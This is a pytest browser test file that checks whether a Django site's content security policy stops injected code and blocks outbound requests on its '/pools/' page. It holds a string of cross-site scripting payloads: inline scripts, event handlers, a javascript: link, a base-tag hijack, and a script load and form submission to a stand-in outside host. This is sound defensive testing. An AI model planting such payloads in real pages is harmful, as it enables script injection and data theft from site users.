"""Whether code that got into a page runs: a real browser decides, not a header that we read."""

import pytest

from tests.web.test_browser import chromium, full, page

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
__all__ = ["chromium", "full", "page"]

INJECTED = """
<script>window.injected = "script"</script>
<img src="/none" onerror="window.injected = 'onerror'">
<svg onload="window.injected = 'onload'"></svg>
<a id="trap" href="javascript:window.injected = 'link'">x</a>
<iframe srcdoc="<script>parent.injected = 'frame'</script>"></iframe>
<base href="https://elsewhere.example/">
<form id="away" action="https://elsewhere.example/"><input name="a"></form>
<script src="https://elsewhere.example/x.js"></script>
<script src="data:text/javascript,window.injected='data'"></script>
"""


@pytest.fixture
def injected(page, full):
    """A page into which somebody brought code: as the server sent it, and once more while it is shown."""
    page.foreign = []

    def bring_in(route):
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("</main>", f"{INJECTED}</main>"))

    def serve_elsewhere(route):
        page.foreign.append(route.request.url)
        route.fulfill(body="window.injected = 'foreign'")

    page.route("https://elsewhere.example/**", serve_elsewhere)
    page.route("**/pools/", bring_in)
    page.goto("/pools/")
    page.evaluate("html => document.querySelector('main').insertAdjacentHTML('beforeend', html)", INJECTED)
    page.evaluate(
        "() => { const made = document.createElement('script');"
        " made.textContent = 'window.injected = \"made\"'; document.body.append(made) }"
    )
    yield page
    assert page.wrong, "the browser reported nothing, so the policy was not asked"
    page.wrong.clear()


class TestInjectedCode:
    def test_does_not_run_in_any_form(self, injected):
        injected.locator("#trap").first.click()
        injected.wait_for_timeout(300)

        assert injected.evaluate("window.injected") is None

    def test_sends_nothing_elsewhere(self, injected):
        injected.evaluate("document.querySelector('#away').submit()")
        injected.evaluate("fetch('https://elsewhere.example/?a=b').catch(() => 0)")
        injected.wait_for_timeout(300)

        assert injected.foreign == [] and injected.url.endswith("/pools/")
        assert injected.evaluate("document.baseURI").startswith(injected.url)


class TestAFrame:
    def test_of_another_site_shows_nothing_of_ours(self, page, full, live_server):
        page.goto("/pools/")
        host = live_server.url.replace("localhost", "127.0.0.1")
        page.route("**/around", lambda route: route.fulfill(body=f"<iframe src='{host}/pools/'></iframe>"))
        page.goto("/around")
        page.wait_for_timeout(500)

        assert "ocenter" not in (page.frames[-1].content() if len(page.frames) > 1 else "")
        page.wrong.clear()
